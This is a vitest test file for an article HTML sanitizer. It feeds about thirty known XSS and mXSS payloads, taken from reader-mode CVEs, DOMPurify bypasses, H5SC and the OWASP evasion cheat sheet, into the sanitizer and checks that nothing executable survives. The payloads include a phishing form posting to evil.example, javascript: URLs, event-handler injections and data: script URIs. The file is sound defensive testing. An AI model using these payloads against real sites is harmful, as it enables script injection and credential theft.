// @vitest-environment node -- the sanitizer gets its own jsdom window (see ../lib/html.ts)
import { describe, expect, it } from 'vitest';
import { sanitizeArticleHtml } from '@/lib/extract/sanitize';
import { page } from '../lib/html';

const { win } = page('');
const clean = (html: string): string => sanitizeArticleHtml(html, win);

/** The sanitized HTML parsed again, as the reader's renderer would build it. */
function rendered(html: string): HTMLElement {
  return new win.DOMParser().parseFromString(clean(html), 'text/html').body;
}

/** Everything in a rendered tree that could run script, load a frame or leave the page. */
function dangers(body: HTMLElement): string[] {
  const found: string[] = [];
  for (const el of Array.from(body.querySelectorAll('*'))) {
    if (/^(script|style|iframe|frame|object|embed|form|input|button|textarea|svg|template|noscript|meta|base|link|title)$/.test(el.localName)) {
      found.push(`<${el.localName}>`);
    }
    for (const attr of Array.from(el.attributes)) {
      // eslint-disable-next-line no-control-regex -- browsers drop these before reading a scheme
      const value = attr.value.replace(/[\s\u0000-\u001f]/g, '');
      if (/^on/i.test(attr.name)) found.push(`${el.localName}[${attr.name}]`);
      if (/^(javascript|vbscript):/i.test(value)) found.push(`${el.localName}[${attr.name}=${value.slice(0, 20)}]`);
      if (/^data:/i.test(value) && !(el.localName === 'img' && attr.name === 'src')) found.push(`${el.localName}[${attr.name}=data:]`);
      if (/^(srcdoc|formaction|action|ping|referrerpolicy|style|xlink:href)$/i.test(attr.name)) found.push(`${el.localName}[${attr.name}]`);
    }
  }
  return found;
}

// Each case: where it comes from, the hostile input, and a piece of its text that must survive
// (null when the input has no text a reader should see).
const CASES: Array<[source: string, input: string, keeps: string | null]> = [
  // Reader-mode advisories (../shared/reference/features.md, "Security lessons").
  ['CVE-2021-29944 (Firefox Android Reader View HTML injection): a login form in the article', '<p>Story text</p><form action="https://evil.example/steal"><input name="pw" placeholder="Password"><button>Log in</button></form>', 'Story text'],
  ['CVE-2021-29944: a full-window overlay made of inline style', '<p style="position:fixed;inset:0;background:white">Session expired</p>', 'Session expired'],
  ['Xiaomi read mode title XSS (gist nmochea/1ae7e317…): a title breaking out into markup', '<title></title><img src=x onerror=alert(document.domain)></title><p>Body</p>', 'Body'],
  ['Opera Android reader title XSS (gist nmochea/dacd26a8…): script after a closed title', '<title>News</title><script>alert(1)</script><p>Body</p>', 'Body'],
  ['CVE-2018-4377 (Safari Reader UXSS): a javascript: link re-emitted by the reader', '<p><a href="javascript:alert(document.cookie)">Read more</a></p>', 'Read more'],
  ['CVE-2018-4377: an entity-encoded javascript: scheme', '<p><a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a></p>', 'x'],
  ['CVE-2023-49060 (Firefox iOS reader, referrerpolicy): leaky referrer and ping attributes', '<p><img src="https://cdn.example.com/a.jpg" referrerpolicy="unsafe-url" alt="a"><a href="https://example.com/" ping="https://track.example/">l</a></p>', 'l'],
  ['brave-ios #2904 (reader view injection): an iframe with srcdoc', '<p>Text</p><iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>', 'Text'],
  ['Brave Speedreader #36998: a <base> that would re-point relative URLs', '<base href="javascript:alert(1)//"><p><a href="/relative">rel</a></p>', 'rel'],
  // DOMPurify bypasses fixed upstream; the sanitizer must keep holding them.
  ['CVE-2019-16728 (DOMPurify 2.0.0 mXSS, svg + p + style)', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', null],
  ['CVE-2020-26870 (DOMPurify 2.0.16 mXSS, math/mtext/mglyph namespace confusion)', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">', null],
  ['DOMPurify 2.2.2 mXSS (form nesting, math/mglyph/style)', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', null],
  ['DOMPurify fixtures (cure53/DOMPurify test/fixtures/expect.mjs): noscript attribute breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', null],
  ['DOMPurify fixtures: a comment that hides a script end', '<!--><script>alert(1)</script>--><p>After</p>', 'After'],
  ['DOMPurify fixtures: DOM clobbering of document properties', '<img name="cookie"><form name="getElementById"></form><p id="location">x</p>', 'x'],
  ['DOMPurify fixtures: an SVG animate that sets href to javascript:', '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">Click</text></a></svg>', null],
  ['DOMPurify fixtures: xlink:href javascript: in MathML', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">CLICKME<mtext>x</mtext></maction></math>', null],
  // H5SC (cure53/H5SC items.js) and the OWASP XSS Filter Evasion Cheat Sheet.
  ['H5SC: formaction on a button outside its form', '<form id="t"></form><button form="t" formaction="javascript:alert(1)">X</button><p>Text</p>', 'Text'],
  ['H5SC: autofocus with onfocus', '<p>Text</p><input autofocus onfocus="alert(1)">', 'Text'],
  ['H5SC: details ontoggle', '<details open ontoggle="alert(1)"><summary>More</summary>x</details>', 'More'],
  ['H5SC: object with a data: HTML document', '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object><p>Text</p>', 'Text'],
  ['H5SC: embed with a javascript: src', '<embed src="javascript:alert(1)"><p>Text</p>', 'Text'],
  ['OWASP: a tab inside the javascript: scheme', '<p><a href="jav&#x09;ascript:alert(1)">x</a></p>', 'x'],
  ['OWASP: a newline inside the javascript: scheme', '<p><a href="jav&#x0A;ascript:alert(1)">x</a></p>', 'x'],
  ['OWASP: a leading control character before the scheme', '<p><a href=" &#14;  javascript:alert(1)">x</a></p>', 'x'],
  ['OWASP: an image with a javascript: src and a malformed tag', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\><p>Text</p>', 'Text'],
  ['OWASP: a meta refresh to a data: URL', '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K"><p>Text</p>', 'Text'],
  ['OWASP: a style with an expression and a javascript: background', '<DIV STYLE="background-image: url(javascript:alert(1))">Text</DIV><p style="width: expression(alert(1))">More</p>', 'More'],
  ['OWASP: a srcset with a javascript: candidate', '<p><img src="https://cdn.example.com/a.jpg" srcset="javascript:alert(1) 1x" alt="a">Text</p>', 'Text'],
  ['OWASP: a video poster and source with script URLs', '<video poster="javascript:alert(1)"><source src="javascript:alert(2)"></video><p>Text</p>', 'Text'],
  ['hostile bench (img-alt-raw): a data: URL in an img href after an alt breakout', '<p><img src="https://cdn.example.com/a.jpg" href="data:text/html,<script>alert(1)</script>" alt="a">Text</p>', 'Text'],
  ['HTML spec: a template whose content would be cloned into the page', '<template><img src=x onerror=alert(1)></template><p>Text</p>', 'Text'],
  ['HTML spec: a dialog opened over the reader', '<dialog open><p>Your session expired</p></dialog><p>Text</p>', 'Text'],
];

describe('sanitizeArticleHtml on known attacks', () => {
  it.each(CASES)('leaves nothing that can run, frame or navigate: %s', (_source, input, keeps) => {
    const body = rendered(input);
    expect(dangers(body)).toEqual([]);
    if (keeps !== null) expect(body.textContent).toContain(keeps);
  });

  it.each(CASES)('gives output that sanitizes to itself: %s', (_source, input) => {
    const once = clean(input);
    expect(clean(once)).toBe(once);
  });
});

describe('sanitizeArticleHtml on the two reported idempotence bugs', () => {
  it('gives stable output when an unwrapped <object> leaves a paragraph inside a paragraph', () => {
    const once = clean('<p><object>Text</p>');
    expect(clean(once)).toBe(once);
    expect(rendered('<p><object>Text</p>').textContent).toBe('Text');
  });

  it.each([
    ['before an id', '<p is="x-widget" id="a">t</p>'],
    ['after an id', '<p id="a" is="x-widget">t</p>'],
  ])('gives stable output for an `is` attribute (%s), so a second pass does not reorder attributes', (_where, html) => {
    // jsdom serializes an element's "is value" even without the attribute (DOM Parsing spec),
    // so the value may stay; what matters is that it no longer moves between passes.
    const once = clean(html);
    expect(clean(once)).toBe(once);
    expect(once.match(/ is=/g)?.length ?? 0).toBeLessThanOrEqual(1);
  });
});
